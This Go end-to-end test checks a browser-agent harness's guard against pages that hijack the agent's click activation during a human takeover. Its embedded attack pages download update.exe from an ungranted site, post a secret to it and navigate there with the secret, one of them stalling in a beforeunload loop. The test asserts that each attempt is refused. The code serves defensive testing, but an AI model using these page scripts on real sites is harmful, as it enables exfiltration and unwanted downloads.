package e2e

import (
	"bytes"
	"net/http"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// TestTakeoverAgentGestureNotUsers: the agent clicks a button (lyrad's
// click, CDP input), then hands the window over; 2.5 s later, no one at
// the window, the page's own timer uses the transient activation that
// click gave it: a navigation to a download from C (a site nobody
// granted), a form posting a secret to C, a navigation to C. Each carries
// the browser's hasUserGesture, but none is a person's: 0 reach C, no byte
// of update.exe on disk, no user_driven row; each is refused as the
// agent's would be, audited with the gesture and why it was not the
// user's, and so does a URL they type. First, the length of that activation is measured on this
// Chromium (it is what lyrad's window must outlast). Last, a person's real
// click (xdotool) once that window has passed still goes through as the
// user's, and so does a URL they type.
func TestTakeoverAgentGestureNotUsers(t *testing.T) {
	h := newHostileTakeover(t)
	C := h.c.URL
	var mu sync.Mutex
	var measured, fired string
	h.a.handle("/measured", func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		measured = r.URL.Query().Get("ms")
		mu.Unlock()
	})
	h.a.handle("/fired", func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		fired = r.URL.Query().Get("active")
		mu.Unlock()
	})
	exe := bytes.Repeat([]byte("LYRAD-AGENT-GESTURE-EXE-"), 4000)
	h.c.handle("/update.exe", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Header().Set("Content-Disposition", `attachment; filename="update.exe"`)
		w.Write(exe)
	})
	h.c.handle("/exfil-post", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusNoContent) })
	h.c.page("/landing", `<!doctype html><title>C</title>landed`)
	h.c.page("/held", `<!doctype html><title>C</title>landed`)
	h.c.page("/typed", `<!doctype html><title>C</title>typed`)
	button := `<style>.go{position:fixed;left:0;top:200px;width:300px;height:60px}</style><button class=go id=go>Go</button>`

	// How long an agent's click leaves the page its activation: from the
	// press to navigator.userActivation going inactive.
	h.a.page("/measure", `<!doctype html><title>m</title>`+button+`<script>
document.getElementById('go').addEventListener('pointerdown', e => {
  const t0 = performance.now();
  const i = setInterval(() => { if (!navigator.userActivation.isActive) { clearInterval(i); fetch('/measured?ms=' + Math.round(performance.now() - t0)); } }, 10);
});</script>`)
	wantStatus(t, h.do("navigate", map[string]any{"url": h.a.URL + "/measure"}), "ok")
	wantStatus(t, h.do("click", map[string]any{"selector": "#go"}), "ok")
	waitFor(t, "the page to measure its activation", 40*time.Second, func() bool { return h.a.count("/measured") > 0 })
	mu.Lock()
	t.Logf("the agent's click gave the page transient activation for %s ms (lyrad counts 6000 ms from its reply)", measured)
	mu.Unlock()

	// The attack.
	dlDir := filepath.Join(h.dir, "downloads")
	stopWatch := watchDisk([]string{h.tmp, filepath.Join(h.home, "Downloads"), dlDir}, exe[:4096])
	// Each step in a page of its own: a navigation the browser makes
	// first takes the activation with it.
	for _, step := range []struct{ name, js string }{
		{"download", `location.href = '` + C + `/update.exe'`},
		{"post", `document.getElementById('f').submit()`},
		{"navigation", `location.href = '` + C + `/landing?d=secret'`},
		// The navigation starts inside the activation, its request only
		// once the page's beforeunload has spun past lyrad's window.
		// A timing rule alone would take it for a person's: none pressed.
		{"held", `addEventListener('beforeunload', () => { const end = Date.now() + 7000; while (Date.now() < end); }, {once: true}); location.href = '` + C + `/held?d=secret'`},
	} {
		h.armed.Store(false)
		h.a.page("/attack-"+step.name, `<!doctype html><title>a</title>`+armScript+button+`
<form id=f method=post action="`+C+`/exfil-post"><input name=d value=secret></form><script>
document.getElementById('go').addEventListener('click', () => setTimeout(() => whenArmed(() => {
  fetch('/fired?active=' + navigator.userActivation.isActive);
  `+step.js+`;
}), 2500));</script>`)
		n := h.a.count("/fired")
		wantStatus(t, h.do("navigate", map[string]any{"url": h.a.URL + "/attack-" + step.name}), "ok")
		wantStatus(t, h.do("click", map[string]any{"selector": "#go"}), "ok")
		wantStatus(t, h.do("request_takeover", map[string]any{"reason": "Type your password"}), "takeover_active")
		h.armed.Store(true)
		waitFor(t, "the page's timer", 40*time.Second, func() bool { return h.a.count("/fired") > n })
		mu.Lock()
		active := fired
		mu.Unlock()
		if active != "true" {
			t.Fatalf("%s: the page had no activation left when the takeover was in force (active=%q): the attack was not tried", step.name, active)
		}
		p := map[string]string{"download": "/update.exe", "post": "/exfil-post", "navigation": "/landing", "held": "/held"}[step.name]
		h.settle(h.c, p)
		if p == "/update.exe" && h.c.count(p) > 0 {
			waitFor(t, "C's file kept or blocked", 20*time.Second, func() bool {
				return len(downloadRows(t, h.dir, "user_driven"))+len(downloadRows(t, h.dir, "blocked")) > 0
			})
		}
		h.resume()
	}
	paths := []string{"/update.exe", "/exfil-post", "/landing", "/held"}
	time.Sleep(500 * time.Millisecond)
	seen := stopWatch()
	kept := keptFiles(t, dlDir)
	var userRows []map[string]any
	for _, r := range rowsWhere(auditRows(t, h.dir), has{"kind": "guard", "reason": "user_driven"}) {
		if u, _ := r["request_url"].(string); strings.HasPrefix(u, C) {
			userRows = append(userRows, r)
		}
	}
	t.Logf("C reached: update.exe %d, the post %d, the navigation %d, the held navigation %d; kept %v; files that held update.exe %v; user_driven rows for C %d; user_driven downloads %d",
		h.c.count("/update.exe"), h.c.count("/exfil-post"), h.c.count("/landing"), h.c.count("/held"), kept, seen, len(userRows), len(downloadRows(t, h.dir, "user_driven")))
	for _, p := range paths {
		if n := h.c.count(p); n != 0 {
			t.Errorf("%s: C reached %d times on the agent's activation, want 0", p, n)
		}
		rows := h.guardRows(h.c, p, "deny")
		if len(rows) == 0 {
			t.Errorf("%s: no deny row", p)
			continue
		}
		// The held request came after lyrad's window (on a slow machine it
		// may still fall inside it).
		why, _ := rows[0]["gesture_not_users"].(string)
		t.Logf("%s: refused, gesture_not_users=%s", p, why)
		if r := rows[0]; r["reason"] != "not_granted" || r["user_activated"] != true || r["during_takeover"] != true ||
			!(why == "agent_input" || (p == "/held" && why == "no_real_input")) {
			t.Errorf("%s: deny row %v, want not_granted, user_activated, during_takeover, gesture_not_users agent_input (or for /held no_real_input)", p, r)
		}
	}
	if len(kept) != 0 || len(seen) != 0 {
		t.Errorf("C's update.exe reached the disk: kept %v, files %v", kept, seen)
	}
	if len(userRows) != 0 || len(downloadRows(t, h.dir, "user_driven")) != 0 {
		t.Errorf("the page's steps on the agent's activation audited user_driven: %s", jsonString(userRows))
	}

	// A person's click once the agent's activation can no longer be live:
	// the user's, as before.
	h.armed.Store(false)
	B := h.b.URL
	h.a.page("/after", `<!doctype html><title>af</title>`+fixedStyle+button+`<a class=hit href="`+B+`/user-form">Continue</a>`)
	wantStatus(t, h.do("navigate", map[string]any{"url": h.a.URL + "/after"}), "ok")
	wantStatus(t, h.do("click", map[string]any{"selector": "#go"}), "ok")
	clicked := time.Now()
	wantStatus(t, h.do("request_takeover", map[string]any{"reason": "Type your password"}), "takeover_active")
	u := newUserHand(t, h.display, h.cs)
	// lyrad's window after its own input is a span of time, not an event.
	time.Sleep(time.Until(clicked.Add(6*time.Second + 500*time.Millisecond)))
	u.click(30, 25)
	waitFor(t, "the user's navigation", 40*time.Second, func() bool { return h.b.count("/user-form") > 0 })
	waitFor(t, "its audit row", 20*time.Second, func() bool { return len(h.guardRows(h.b, "/user-form", "allow")) > 0 })
	if rows := h.guardRows(h.b, "/user-form", "allow"); len(rows) != 1 || rows[0]["reason"] != "user_driven" {
		t.Errorf("the user's click after the agent's: %v, want one user_driven row", rows)
	}
	// And a URL they type in the address bar (reached from the keyboard:
	// the page hears the Control key go down).
	waitFor(t, "the user's landing", 20*time.Second, func() bool { return h.do("get_url", nil)["url"] == B+"/user-form" })
	u.key("ctrl+l")
	time.Sleep(time.Second) // the address bar takes the focus (no event tells; a loaded machine is slow)
	u.typeText(C + "/typed")
	u.key("Return")
	waitFor(t, "the typed URL reached or refused", 40*time.Second, func() bool {
		return h.c.count("/typed") > 0 || len(h.guardRows(h.c, "/typed", "deny")) > 0
	})
	if rows := h.guardRows(h.c, "/typed", "allow"); h.c.count("/typed") != 1 || len(rows) != 1 || rows[0]["reason"] != "user_driven" {
		t.Errorf("the URL the user typed: reached %d times, rows %v, want once, user_driven (deny rows %v)", h.c.count("/typed"), rows, h.guardRows(h.c, "/typed", "deny"))
	}
	h.resume()
}
